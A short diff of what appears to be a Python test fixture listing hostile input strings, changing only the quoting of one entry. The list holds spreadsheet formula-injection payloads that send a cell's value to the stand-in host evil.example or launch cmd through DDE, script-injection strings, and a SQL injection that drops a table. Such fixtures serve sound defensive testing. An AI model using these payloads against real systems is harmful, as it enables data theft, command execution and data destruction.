@@ -13,7 +13,7 @@ _TEXTS = [
     "@SUM(A1:A9)",
     '=HYPERLINK("http://evil.example/?"&A1,"Nông Văn An")',
     '=IMPORTXML("http://evil.example","//a")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     "<script>alert(1)</script>",
     '<svg onload="alert(1)">',
     "'; DROP TABLE households; --",
